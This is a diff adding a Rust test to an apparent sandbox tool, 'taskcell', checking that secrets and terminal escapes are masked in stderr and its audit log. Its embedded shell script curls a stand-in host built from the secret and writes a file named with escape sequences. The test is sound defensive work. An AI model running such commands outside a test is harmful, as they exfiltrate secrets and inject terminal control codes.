@@ -966,3 +966,57 @@ fn ask_on_the_launching_terminal() {
         "{out}"
     );
 }
+
+#[test]
+fn what_the_cell_names_is_masked_and_escaped_on_stderr_and_in_the_audit_log() {
+    // The attack: the cell makes taskcell repeat its words. A request to
+    // `<secret>.example.test` (refused: taskcell says so on stderr and in the audit log)
+    // and a file named with the secret and terminal escapes, holding the secret (the
+    // leak scan reports its path).
+    let ws = Ws::new();
+    let prof = profile(&ws, "allow = []\n");
+    let log = ws.join("audit.jsonl").display().to_string();
+    let value = "q7secretvalue42";
+    let script = "curl -s -o /dev/null http://$TC_LEAK.example.test/; \
+         f=$(printf 'x-%s-\\033]0;pwned\\007\\033[2J\\r.txt' \"$TC_LEAK\"); \
+         echo \"$TC_LEAK\" > \"$f\"; echo done";
+    let o = taskcell(
+        ws.path(),
+        &[
+            "run",
+            "-p",
+            &prof,
+            "--audit-log",
+            &log,
+            "--secret",
+            "TC_LEAK=env:TC_LEAK_VALUE",
+            "--secret-opt",
+            "TC_LEAK.deliver=env",
+            "--",
+            "/bin/sh",
+            "-c",
+            script,
+        ],
+    )
+    .env("TC_LEAK_VALUE", value)
+    .output()
+    .expect("run");
+    let err = String::from_utf8_lossy(&o.stderr).into_owned();
+    let audit = std::fs::read_to_string(&log).expect("audit log");
+    assert!(stdout(&o).contains("done"), "{err}");
+    // taskcell did speak about both.
+    assert!(err.contains("[taskcell:TC_LEAK].example.test"), "{err}");
+    assert!(err.contains("leak: "), "{err}");
+    assert!(audit.contains("[taskcell:TC_LEAK].example.test"), "{audit}");
+    assert!(audit.contains("\"secret_leak\""), "{audit}");
+    for (what, text) in [("stderr", &err), ("audit log", &audit)] {
+        assert!(!text.contains(value), "{what} holds the value: {text}");
+        assert!(!text.contains('\x1b'), "{what} holds ESC: {text:?}");
+        assert!(!text.contains('\r'), "{what} holds CR: {text:?}");
+        assert!(!text.contains('\x07'), "{what} holds BEL: {text:?}");
+    }
+    // Shown escaped, not dropped.
+    assert!(err.contains("\\x1b]0;pwned\\x07"), "{err}");
+    // The JSON escape of a control byte is not there either.
+    assert!(!audit.contains("\\u001b"), "{audit}");
+}
